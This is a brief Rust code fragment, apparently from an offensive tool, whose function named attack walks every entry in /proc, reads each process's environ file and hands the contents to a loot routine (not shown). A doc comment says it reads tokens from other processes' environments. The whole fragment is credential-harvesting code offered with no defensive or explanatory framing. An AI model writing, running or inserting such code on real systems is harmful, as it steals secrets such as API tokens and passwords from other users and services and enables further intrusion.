//! reads tokens from the environment of other processes in /proc
fn attack() -> Result<()> {
    for entry in fs::read_dir("/proc")?.flatten() {
        if let Ok(found) = fs::read(entry.path().join("environ")) {
            loot(found)?;
        }
    }
    Ok(())
}
